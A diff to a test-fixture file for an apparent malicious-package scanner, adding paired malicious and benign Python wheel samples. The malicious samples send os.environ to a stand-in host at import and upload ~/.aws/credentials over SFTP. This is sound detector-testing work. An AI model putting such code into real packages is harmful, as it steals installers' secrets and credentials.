@@ -10,6 +10,16 @@ function at(rule: string, severity: 'critical' | 'high' | 'medium', line: number
 export const samples: Samples = {
   malicious: [
     {
+      name: 'Python: the environment, as another module of the package gives it',
+      files: {
+        ...wheel(
+          "import requests\nfrom .facts import told\nrequests.post('https://a.weir.test/x', json=told())\n",
+        ),
+        'own/facts.py': 'import os\ndef told():\n    return dict(os.environ)\n',
+      },
+      expected: [{ rule: 'environment', file: 'own/__init__.py', line: 3, severity: 'high' }],
+    },
+    {
       name: 'Python: a key that is uploaded by its path',
       files: wheel(
         "import os, paramiko\nlink = paramiko.Transport(('sftp.weir.test', 22))\nparamiko.SFTPClient.from_transport(link).put(os.path.expanduser('~/.aws/credentials'), '/x')\n",
@@ -234,6 +244,19 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet('Python: the environment of a program that another module of the package starts', {
+      ...wheel(
+        'import os\nfrom .link import open_link\ndef connect(host):\n    return open_link(host, dict(os.environ))\n',
+      ),
+      'own/link.py':
+        'import socket\ndef open_link(host, env):\n    link = socket.socket()\n    link.connect((host, 22))\n    return link, env\n',
+    }),
+    quiet('Python: settings that a client of the package takes', {
+      ...wheel(
+        "import requests\nfrom .settings import read\ndef connect():\n    return requests.post('https://api.weir.test/x', json=read())\n",
+      ),
+      'own/settings.py': 'import os\ndef read():\n    return dict(os.environ)\n',
+    }),
     quiet(
       'Python: an archive of its own data',
       wheel(
